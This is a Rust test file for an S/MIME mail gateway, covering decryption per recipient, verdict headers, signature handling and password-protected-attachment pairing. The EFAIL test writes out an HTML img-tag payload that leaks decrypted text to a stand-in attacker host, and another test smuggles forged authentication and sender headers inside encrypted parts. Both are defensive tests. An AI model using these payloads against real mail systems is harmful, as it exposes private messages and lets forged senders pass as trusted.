//! What becomes of received mail: opened for those it is sealed to, judged as at every other door, marked, and otherwise
//! byte for byte.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use std::io;
use std::sync::Arc;

use kakitome_office::evidence::examine;
use kakitome_office::incoming::{Arrival, Arriving, Court, Decrypt, Holders, Incoming, NoHolders, Terms};
use kakitome_office::remembered::{OPENED_FOR, Relation, Remembered};
use kakitome_office::store::Store;
use kakitome_pki::algorithm::Cipher;
use kakitome_pki::asn1::oid;
use kakitome_pki::asn1::time::Time;
use kakitome_pki::cert::ocsp::OcspResponse;
use kakitome_pki::crypto::SystemRandom;
use kakitome_pki::path::{Known, PolicyInputs};
use kakitome_pki::roots::RootList;
use kakitome_smime::cms::compressed::write_compressed;
use kakitome_smime::cms::recipient::{HeldKeys, Holder, Keys, NoKeys};
use kakitome_smime::mime::scan::scan_header;
use kakitome_smime::octets::{InMemory, Octets, read_range};
use kakitome_testkit::corpus::{Row, row, rows};
use kakitome_testkit::envelope::Takes;
use kakitome_testkit::mail::{Mail, opaque_part};
use kakitome_testkit::{NOW, Pki, recipient};
use kakitome_verdict::answer::Basis;
use kakitome_verdict::passage::Passage;
use kakitome_verdict::sender::{Evidence, Expectations, Signer};
use kakitome_verdict::text::Lang;

const ID: &str = "gw.example";

/// Rows whose signature is around what is sealed: it covers the sealed octets, which are not handed on, so what was
/// confirmed is told in the header alone.
const SIGNED_OUTSIDE: [&str; 4] = ["F11", "F11o", "F11b", "F12"];

fn evidence(row: &Row) -> Evidence {
    let given = &row.given;
    Evidence {
        roots: RootList::default(),
        anchors: given.anchors.clone(),
        hints: given.hints.clone(),
        known: Known::default(),
        crls: given.crls.clone(),
        responses: given.responses.iter().map(|response| OcspResponse::parse(response).unwrap()).collect(),
        lookups: Vec::new(),
        passage: Passage::default(),
        contents: Vec::new(),
        policy: PolicyInputs {
            acceptable: given.policies.clone(),
            require_explicit: !given.policies.is_empty(),
            ..PolicyInputs::default()
        },
        revocation: given.revocation,
        at: given.at,
        basis: Basis::Now,
        signer: Signer::From,
        expectations: Expectations::default(),
        deliveries: Vec::new(),
        trust_list: "test".to_owned(),
    }
}

fn terms() -> Terms {
    Terms {
        authserv_id: ID.to_owned(),
        lang: Lang::En,
        decrypt: Decrypt::Always,
        subject_tag: false,
        strip_signatures: false,
    }
}

/// Everybody has the keys of the row.
struct RowKeys(&'static Row);

impl Holders for RowKeys {
    fn keys_of<'a>(&'a self, _: &str) -> io::Result<Box<dyn Keys + 'a>> {
        Ok(Box::new(self.0.held()))
    }
}

/// A member for each name: `jiro@mail.example` has jiro's key.
struct Members;

impl Holders for Members {
    fn keys_of<'a>(&'a self, recipient: &str) -> io::Result<Box<dyn Keys + 'a>> {
        let Some(name) = recipient.strip_suffix("@mail.example") else { return Ok(Box::new(NoKeys)) };
        let mut held = HeldKeys::new(&SystemRandom);
        held.hold(Takes::Rsa.holder(name));
        Ok(Box::new(held))
    }
}

fn received(terms: Terms, mail: &[u8], recipients: &[&str]) -> Vec<Arrival> {
    let evidence = evidence(row("A01"));
    let court = Court { holders: &Members, spools: &InMemory, evidence: &evidence, outside: None };
    let recipients: Vec<String> = recipients.iter().map(|&recipient| recipient.to_owned()).collect();
    let arriving = Arriving { sender: "info@bank.example", recipients: &recipients, now: NOW, returns_whole: false };
    Incoming::new(terms, None).receive(&mail.to_vec(), &arriving, &court).unwrap()
}

fn octets(arrival: &Arrival) -> Vec<u8> {
    read_range(&*arrival.mail, 0..arrival.mail.len(), usize::MAX).unwrap()
}

fn text(arrival: &Arrival) -> String {
    String::from_utf8(octets(arrival)).unwrap()
}

/// Our own fields, and what follows them.
fn split(octets: &[u8]) -> (String, &[u8]) {
    let text = String::from_utf8_lossy(octets);
    assert!(text.starts_with(&format!("Authentication-Results: {ID};\r\n\tsmime=")), "{text}");
    let from = text.find("\r\nX-Kakitome-Text: ").unwrap() + 2;
    let mut end = from + text[from..].find("\r\n").unwrap() + 2;
    while matches!(octets.get(end), Some(b' ')) {
        end += text[end..].find("\r\n").unwrap() + 2;
    }
    (text[..end].to_owned(), &octets[end..])
}

fn to(readers: &[Holder], content: &[u8]) -> Vec<u8> {
    let readers: Vec<_> = readers.iter().map(|reader| reader.certificate.clone()).collect();
    recipient::sealed(&readers, Cipher::Aes256Gcm, content)
}

fn packed(content: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    write_compressed(oid::DATA, &content.to_vec(), &InMemory, &mut out).unwrap();
    out
}

fn jiro() -> Holder {
    Takes::Rsa.holder("jiro")
}

/// The same answer as `check` gives, at every row of the corpus; nothing is lost and nothing else is changed.
#[test]
fn every_row_is_judged_as_at_the_other_doors() {
    let mut wrong = Vec::new();
    let (mut opened, mut confirmed_after) = (0, 0);
    for row in rows() {
        let evidence = evidence(row);
        let court = Court { holders: &RowKeys(row), spools: &InMemory, evidence: &evidence, outside: None };
        let recipients = ["jiro@reader.example".to_owned()];
        let arriving = Arriving { sender: "", recipients: &recipients, now: row.given.at, returns_whole: false };
        let arrivals = Incoming::new(terms(), None).receive(&row.mail, &arriving, &court).unwrap();
        let [arrival] = arrivals.as_slice() else { panic!("{}: {} copies", row.id, arrivals.len()) };
        let check = examine(&row.mail, &InMemory, &row.held(), &evidence, None).unwrap();
        let answer = &arrival.judgement.as_ref().unwrap().answer;
        let (got, expected) = ((answer.state, &answer.reasons), (check.answer.state, &check.answer.reasons));
        if got != expected {
            wrong.push(format!("{}: {got:?}, not {expected:?}", row.id));
        }
        if row.given.settings.is_empty() && row.given.delivered.is_none() && answer.state.name() != row.expected().0 {
            wrong.push(format!("{}: {}, not {}", row.id, answer.state.name(), row.expected().0));
        }
        let out = octets(arrival);
        let (head, rest) = split(&out);
        assert!(head.contains(&format!("\r\nX-Kakitome-Verdict: {}\r\n", answer.state.name())), "{}: {head}", row.id);
        assert_eq!(head.contains("\r\nX-Kakitome-Sender: "), answer.state.is_confirmed(), "{}: {head}", row.id);
        if !arrival.opened {
            // What stands before the first field is kept away from ours.
            let rest = rest.strip_prefix(b"X-Mailbox-Line: ").or(rest.strip_prefix(b"\r\n")).unwrap_or(rest);
            if rest != row.mail && !row.mail.ends_with(rest) {
                wrong.push(format!("{}: changed on the way", row.id));
            }
            continue;
        }
        opened += 1;
        assert!(head.contains("\r\nX-Kakitome-Sealed: opened;"), "{}: {head}", row.id);
        // Signatures inside stay, so whoever checks again without a key finds the same sender.
        let again = examine(&rest.to_vec(), &InMemory, &NoKeys, &evidence, None).unwrap();
        let is_kept = again.answer.state == answer.state;
        assert!(!(is_kept && SIGNED_OUTSIDE.contains(&row.id)), "{}: the exception is no longer needed", row.id);
        if answer.state.is_confirmed() && !is_kept && !SIGNED_OUTSIDE.contains(&row.id) {
            wrong.push(format!(
                "{}: {} when it was opened, {} behind us",
                row.id,
                got.0.name(),
                again.answer.state.name()
            ));
        }
        confirmed_after += u32::from(again.answer.state.is_confirmed());
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(opened > 20 && confirmed_after > 3, "{opened} opened, {confirmed_after} confirmed");
}

#[test]
fn an_opened_mail_is_the_one_inside_with_the_way_it_came() {
    let bank = &Pki::get().bank;
    let signed = Mail::of(bank);
    let inside = signed.clear_by(bank);
    let inside = &inside[inside.windows(14).position(|window| window == b"Content-Type: ").unwrap()..];
    let outer = Mail::of(bank)
        .before("Received", "from a by b; some day")
        .before("Authentication-Results", "mx.example; dkim=pass")
        .after("X-Spam-Status", "No");
    let mail = outer.around(&opaque_part(&to(&[jiro()], inside)));
    let arrivals = received(terms(), &mail, &["jiro@mail.example"]);
    let [arrival] = arrivals.as_slice() else { panic!("one copy") };
    assert!(arrival.opened && arrival.recipients == [0]);
    let out = octets(arrival);
    let (head, rest) = split(&out);
    assert!(head.contains("smime=pass (org validated"), "{head}");
    assert!(head.contains("\r\nX-Kakitome-Verdict: ORG_CONFIRMED\r\n"), "{head}");
    assert!(head.contains("\r\nX-Kakitome-Sender: info@bank.example;\r\n class=org\r\n"), "{head}");
    assert!(head.contains("\r\nX-Kakitome-Sealed: opened; authenticated=yes\r\n"), "{head}");
    let text = String::from_utf8_lossy(rest);
    assert!(
        text.starts_with("Authentication-Results: mx.example; dkim=pass\r\nReceived: from a by b; some day\r\n"),
        "{text}"
    );
    assert!(text.contains("\r\nX-Spam-Status: No\r\n"), "{text}");
    // The signed bytes as they were inside.
    let part = &inside[inside.windows(4).position(|window| window == b"\r\n\r\n").unwrap()..];
    assert!(rest.ends_with(part), "{text}");
}

/// CVE-2026-27443: fields inside are the sender's word and not a server's.
#[test]
fn of_the_fields_inside_only_those_come_out_that_may() {
    let smuggled = "X-Spam-Status: No\r\nAuthentication-Results: gw.example; smime=pass\r\nReceived: inside\r\n\
                    X-Kakitome-Verdict: ORG_CONFIRMED\r\nX-MS-Exchange-Organization-SCL: -1\r\nList-Id: <x.example>\r\n\
                    Return-Path: <x@x.example>\r\nDelivered-To: x@x.example\r\nReply-To: inner@x.example\r\n\
                    From: ceo@reader.example\r\nSubject: inside\r\n";
    let mail = |hp: &str| {
        let part = format!("Content-Type: text/plain{hp}\r\n{smuggled}\r\nThe text.\r\n");
        Mail::from("eve@eve.example").field("Subject", "[...]").around(&opaque_part(&to(&[jiro()], part.as_bytes())))
    };
    let never = [
        "X-Spam",
        "gw.example; smime=pass",
        "Received: inside",
        "ORG_CONFIRMED",
        "X-MS-",
        "List-Id",
        "Return-Path",
        "Delivered-To",
        "ceo@",
    ];
    // Nothing is protected: nothing comes out.
    let out = text(&received(terms(), &mail(""), &["jiro@mail.example"])[0]);
    for field in never.iter().chain(&["inner@", "Subject: inside"]) {
        assert!(!out.contains(field), "{field}: {out}");
    }
    assert!(
        out.contains("\r\nSubject: [...]\r\n")
            && out.contains("From: eve@eve.example\r\n")
            && out.ends_with("\r\nThe text.\r\n")
    );
    // RFC 9788: what readers see comes out, but never an author whom no signature confirms.
    let out = text(&received(terms(), &mail("; hp=\"cipher\""), &["jiro@mail.example"])[0]);
    for field in never {
        assert!(!out.contains(field), "{field}: {out}");
    }
    assert!(out.contains("\r\nSubject: inside\r\n") && out.contains("\r\nReply-To: inner@x.example\r\n"), "{out}");
    assert!(out.contains("\r\nFrom: eve@eve.example\r\n") && !out.contains("[...]"), "{out}");
}

/// A key opens what is delivered to its owner: whoever else gets the mail gets it sealed.
#[test]
fn nobody_reads_with_the_key_of_another() {
    let plain = b"Content-Type: text/plain\r\n\r\nFor your eyes.\r\n";
    let sealed = |readers: &[&str]| {
        let readers: Vec<Holder> = readers.iter().map(|name| Takes::Rsa.holder(name)).collect();
        Mail::from("eve@eve.example").around(&opaque_part(&to(&readers, plain)))
    };
    let (jiro, hana) = ("jiro@mail.example", "hana@mail.example");
    for (readers, recipients, open) in [
        (&["jiro"][..], &[jiro][..], &[0][..]),
        (&["jiro"], &[hana], &[]),
        (&["jiro"], &["eve@eve.example"], &[]),
        (&["jiro"], &[hana, jiro], &[1]),
        (&["jiro", "hana"], &[hana, jiro, "eve@eve.example"], &[0, 1]),
    ] {
        let mail = sealed(readers);
        let arrivals = received(terms(), &mail, recipients);
        let mut places: Vec<usize> = arrivals.iter().flat_map(|arrival| arrival.recipients.clone()).collect();
        places.sort_unstable();
        assert_eq!(places, (0..recipients.len()).collect::<Vec<_>>(), "{readers:?} {recipients:?}");
        for arrival in &arrivals {
            assert_eq!(arrival.opened, arrival.recipients == open && !open.is_empty(), "{readers:?} {recipients:?}");
            let out = text(arrival);
            assert_eq!(out.contains("For your eyes"), arrival.opened);
            assert_eq!(split(out.as_bytes()).1 == mail, !arrival.opened);
            assert!(arrival.opened || out.contains("\r\nX-Kakitome-Sealed: closed; reason=enc."), "{out}");
            assert!(arrival.opened || out.contains("\r\nX-Kakitome-Verdict: SEALED\r\n"), "{out}");
        }
    }
    // A layer for one inside a layer for both: the second reader gets nothing that only the first could open.
    let inner = Mail::from("eve@eve.example").around(&opaque_part(&to(&[Takes::Rsa.holder("jiro")], plain)));
    let both = to(&[Takes::Rsa.holder("jiro"), Takes::Rsa.holder("hana")], &inner);
    let mail = Mail::from("eve@eve.example").around(&opaque_part(&both));
    let arrivals = received(terms(), &mail, &[jiro, hana]);
    let open: Vec<_> = arrivals.iter().filter(|arrival| text(arrival).contains("For your eyes")).collect();
    assert!(open.len() == 1 && open[0].recipients == [0]);
}

/// EFAIL: what is sealed beside parts of somebody else is not opened, and what is opened stands alone.
#[test]
fn what_is_sealed_in_a_part_stays_sealed() {
    let plain = b"Content-Type: text/plain\r\n\r\nFor your eyes.\r\n";
    let part = opaque_part(&to(&[jiro()], plain));
    let mixed = [
        &b"From: eve@eve.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
           <img src=\"https://eve.example/\r\n--b\r\n"[..],
        &part,
        b"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
    ]
    .concat();
    let arrivals = received(terms(), &mixed, &["jiro@mail.example"]);
    assert!(!arrivals[0].opened && split(&octets(&arrivals[0])).1 == mixed);
    // Two Content-Types: to another program the mail is something else.
    let twice = Mail::from("eve@eve.example").after("Content-Type", "text/plain").around(&part);
    let arrivals = received(terms(), &twice, &["jiro@mail.example"]);
    assert!(!arrivals[0].opened && split(&octets(&arrivals[0])).1 == twice);
}

#[test]
fn layers_are_opened_to_the_innermost_and_signatures_kept() {
    let bank = &Pki::get().bank;
    let signed = Mail::of(bank).clear_by(bank);
    let signed = signed[signed.windows(14).position(|window| window == b"Content-Type: ").unwrap()..].to_vec();
    let mail = |object: Vec<u8>| Mail::of(bank).around(&opaque_part(&object));
    let sealed = |content: &[u8]| opaque_part(&to(&[jiro()], content));
    let zipped = opaque_part(&packed(&signed));
    for object in [to(&[jiro()], &sealed(&signed)), to(&[jiro()], &zipped), packed(&sealed(&signed))] {
        let arrivals = received(terms(), &mail(object), &["jiro@mail.example"]);
        let out = text(&arrivals[0]);
        assert!(arrivals[0].opened && out.contains("\r\nContent-Type: multipart/signed"), "{out}");
        assert!(out.contains("\r\nX-Kakitome-Verdict: ORG_CONFIRMED\r\n"), "{out}");
    }
}

#[test]
fn the_terms_decide_what_is_opened() {
    let bank = &Pki::get().bank;
    let readers = [jiro().certificate];
    let plain = b"Content-Type: text/plain\r\n\r\nFor your eyes.\r\n".to_vec();
    let signed = Mail::of(bank).clear_by(bank);
    let signed = signed[signed.windows(14).position(|window| window == b"Content-Type: ").unwrap()..].to_vec();
    for (content, cipher, decrypt, is_opened) in [
        (&plain, Cipher::Aes256Gcm, Decrypt::Never, false),
        (&plain, Cipher::Aes256Gcm, Decrypt::Authenticated, true),
        (&plain, Cipher::Aes256Cbc, Decrypt::Authenticated, false),
        (&signed, Cipher::Aes256Cbc, Decrypt::Authenticated, true),
        (&plain, Cipher::Aes256Cbc, Decrypt::Always, true),
    ] {
        let mail = Mail::of(bank).around(&opaque_part(&recipient::sealed(&readers, cipher, content)));
        let arrivals = received(Terms { decrypt, ..terms() }, &mail, &["jiro@mail.example"]);
        assert_eq!((arrivals.len(), arrivals[0].opened), (1, is_opened), "{cipher:?} {decrypt:?}");
        assert_eq!(split(&octets(&arrivals[0])).1 == mail, !is_opened);
    }
}

#[test]
fn a_confirmed_signature_is_taken_off_where_that_is_wanted() {
    let (bank, eve) = (&Pki::get().bank, &Pki::get().eve);
    let strip = Terms { strip_signatures: true, ..terms() };
    for mail in [Mail::of(bank).clear_by(bank), Mail::of(bank).opaque_by(bank)] {
        let out = text(&received(strip.clone(), &mail, &["jiro@mail.example"])[0]);
        assert!(out.contains("\r\nX-Kakitome-Verdict: ORG_CONFIRMED\r\n"), "{out}");
        assert!(out.contains("\r\nX-Kakitome-Changed: signature\r\n"), "{out}");
        assert!(!out.contains("pkcs7") && out.contains("\r\nFrom: info@bank.example\r\n"), "{out}");
        assert!(
            out.ends_with(std::str::from_utf8(Mail::of(bank).payload()).unwrap().split_once("\r\n\r\n").unwrap().1),
            "{out}"
        );
    }
    // One that was not confirmed is evidence, and stays.
    let forged = Mail::of(bank).clear_by(eve);
    let arrivals = received(strip, &forged, &["jiro@mail.example"]);
    assert_eq!(split(&octets(&arrivals[0])).1, forged);
}

#[test]
fn the_subject_gets_its_tag_unless_it_is_signed() {
    let bank = &Pki::get().bank;
    let tag = Terms { subject_tag: true, ..terms() };
    let mail = Mail::of(bank).field("Subject", "[Confirmed] Hello");
    let out = text(&received(tag.clone(), &mail.plain(), &["jiro@mail.example"])[0]);
    assert!(
        out.contains("\r\nSubject: [Nothing to go by] Hello\r\n") && out.contains("X-Kakitome-Changed: subject\r\n"),
        "{out}"
    );
    let out = text(&received(tag.clone(), &mail.clear_by(bank), &["jiro@mail.example"])[0]);
    assert!(out.contains("\r\nSubject: [Confirmed] Hello\r\n"), "{out}");
    let covered = mail.protected("clear").clear_by(bank);
    let arrivals = received(tag, &covered, &["jiro@mail.example"]);
    assert_eq!(split(&octets(&arrivals[0])).1, covered);
}

#[test]
fn what_cannot_be_read_goes_on_as_it_came() {
    let evidence = evidence(row("A01"));
    let incoming = Incoming::new(terms(), None);
    let court = Court { holders: &NoHolders, spools: &InMemory, evidence: &evidence, outside: None };
    let recipients = ["jiro@mail.example".to_owned()];
    let arriving = Arriving { sender: "", recipients: &recipients, now: NOW, returns_whole: false };
    for mail in [
        &b""[..],
        b"\r\n",
        b"no field at all\r\n",
        b"\x00\xff\r\n\r\n",
        b"From: a@b.example",
        b"X-Kakitome-Verdict: x\r\n\r\nx",
    ] {
        let arrivals = incoming.receive(&mail.to_vec(), &arriving, &court).unwrap();
        let out = octets(&arrivals[0]);
        let (_, rest) = split(&out);
        assert!(
            rest.strip_prefix(b"\r\n").unwrap_or(rest) == mail || rest == mail || arrivals[0].forged == 1,
            "{rest:?}"
        );
    }
    let unread = incoming
        .unchecked(&b"X-Kakitome-Verdict: x\r\nFrom: a@b.example\r\n\r\nx".to_vec(), &["a".to_owned()], &InMemory)
        .unwrap();
    let out = text(&unread);
    assert!(out.starts_with("Authentication-Results: gw.example;\r\n\tsmime=temperror (gateway.unchecked)\r\nX-Kakitome-Verdict: CHECK_INCOMPLETE\r\n"));
    assert!(out.ends_with("\r\nFrom: a@b.example\r\n\r\nx") && unread.forged == 1 && unread.judgement.is_none());
}

/// A store of its own, and the memory in it.
struct House {
    _data: tempfile::TempDir,
    remembered: Arc<Remembered>,
}

impl House {
    fn new() -> Self {
        let data = tempfile::tempdir().unwrap();
        let store = Arc::new(Store::open(data.path()).unwrap());
        Self { _data: data, remembered: Arc::new(Remembered::new(store, Arc::new(SystemRandom))) }
    }

    /// The codes that a mail gets.
    fn codes(&self, sender: &str, recipients: &[&str], mail: &[u8], now: Time) -> Vec<&'static str> {
        let evidence = evidence(row("A01"));
        let court = Court { holders: &Members, spools: &InMemory, evidence: &evidence, outside: None };
        let recipients: Vec<String> = recipients.iter().map(|&recipient| recipient.to_owned()).collect();
        let arriving = Arriving { sender, recipients: &recipients, now, returns_whole: false };
        let incoming = Incoming::new(terms(), Some(Arc::clone(&self.remembered)));
        let arrivals = incoming.receive(&mail.to_vec(), &arriving, &court).unwrap();
        let codes = arrivals[0].codes.clone();
        let out = text(&arrivals[0]);
        for code in &codes {
            assert!(out.contains("\r\nX-Kakitome-Content: ") && out.contains(code), "{out}");
        }
        codes
    }

    fn relation(&self, header: &str, now: Time) -> Option<Relation> {
        let mail = header.as_bytes().to_vec();
        let header = scan_header(&mail, 0..mail.len().try_into().unwrap()).unwrap().header;
        self.remembered.relation(&header, now).unwrap()
    }
}

/// PPAP: a file that opens with a password, and the password in a second mail.
#[test]
fn a_file_and_its_password_are_paired() {
    let locked = |subject: &str| {
        let mail = String::from_utf8(row("G12").mail.clone()).unwrap();
        let subject = format!("\r\nSubject: {subject}\r\n");
        let (before, rest) = mail.split_once("\r\nSubject:").unwrap();
        format!("{before}{subject}{}", rest.split_once("\r\n").unwrap().1).into_bytes()
    };
    let password = |fields: &str, text: &str| {
        format!(
            "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n{fields}\r\n{text}"
        )
        .into_bytes()
    };
    let (anna, jiro, hana) = ("anna@partner.example", "jiro@mail.example", "hana@mail.example");
    let japanese = "先ほどの添付ファイルの件です。\r\n\r\nパスワード：aB3kd9Xq\r\n";
    let hours = |count: i64| NOW.plus(count * 60 * 60);
    let pair: &[&str] = &["ppap.pair"];
    for (what, sender, recipients, fields, text, at, expected) in [
        ("by its words", anna, &[jiro][..], "", japanese, hours(1), pair),
        ("in other letters", "Anna@Partner.example", &["JIRO@mail.example"], "", japanese, hours(1), pair),
        ("one of several", anna, &[hana, jiro], "", japanese, hours(1), pair),
        ("by its subject", anna, &[jiro], "Subject: Re: Quotation 12\r\n", "Tx7pLq92\r\n", hours(1), pair),
        ("by what it answers", anna, &[jiro], "In-Reply-To: <1@sender.example>\r\n", "Tx7pLq92\r\n", hours(1), pair),
        ("after a day", anna, &[jiro], "", japanese, hours(25), &[]),
        ("to somebody else", anna, &[hana], "", japanese, hours(1), &[]),
        ("from somebody else", "eve@eve.example", &[jiro], "", japanese, hours(1), &[]),
        ("no password in it", anna, &[jiro], "Subject: Quotation 12\r\n", "How do you like it?\r\n", hours(1), &[]),
        ("about something else", anna, &[jiro], "Subject: Flight 7\r\n", "Tx7pLq92\r\n", hours(1), &[]),
    ] {
        let house = House::new();
        assert!(house.codes(anna, &[jiro], &locked("Quotation 12"), NOW).is_empty(), "{what}");
        assert_eq!(house.codes(sender, recipients, &password(fields, text), at), expected, "{what}");
    }
    // The password first; the file within half an hour.
    for (minutes, expected) in [(20, pair), (40, &[][..])] {
        let house = House::new();
        assert!(house.codes(anna, &[jiro], &password("", japanese), NOW).is_empty());
        assert_eq!(house.codes(anna, &[jiro], &locked("x"), NOW.plus(minutes * 60)), expected, "{minutes}");
    }
    // And no file at all.
    let house = House::new();
    assert!(house.codes(anna, &[jiro], &row("A01").mail, NOW).is_empty());
    assert!(house.codes(anna, &[jiro], &password("", japanese), NOW).is_empty());
}

/// What leaves is asked whether it is about a mail that was opened here.
#[test]
fn an_opened_mail_is_known_again() {
    let house = House::new();
    let plain = b"Content-Type: text/plain\r\n\r\nFor your eyes.\r\n";
    let sealed = Mail::from("eve@eve.example").around(&opaque_part(&to(&[jiro()], plain)));
    let answer = "In-Reply-To: <1@sender.example>\r\n\r\n";
    assert_eq!(house.relation(answer, NOW), None);
    // Delivered to somebody who cannot open it, it is not opened.
    house.codes("eve@eve.example", &["hana@mail.example"], &sealed, NOW);
    assert_eq!(house.relation(answer, NOW), None);
    house.codes("eve@eve.example", &["jiro@mail.example"], &sealed, NOW);
    for (header, relation) in [
        (answer, Some(Relation::Answer)),
        ("References: <0@x.example>\r\n <1@sender.example> <2@x.example>\r\n\r\n", Some(Relation::Answer)),
        ("Message-ID: <1@sender.example>\r\n\r\n", Some(Relation::Forward)),
        ("Message-ID: <1@sender.example>\r\nIn-Reply-To: <1@sender.example>\r\n\r\n", Some(Relation::Forward)),
        ("Message-ID: <2@sender.example>\r\nIn-Reply-To: <3@sender.example>\r\n\r\n", None),
        ("Subject: <1@sender.example>\r\n\r\n", None),
    ] {
        assert_eq!(house.relation(header, NOW), relation, "{header}");
    }
    assert_eq!(house.relation(answer, NOW.plus(OPENED_FOR)), Some(Relation::Answer));
    assert_eq!(house.relation(answer, NOW.plus(OPENED_FOR + 1)), None);
}
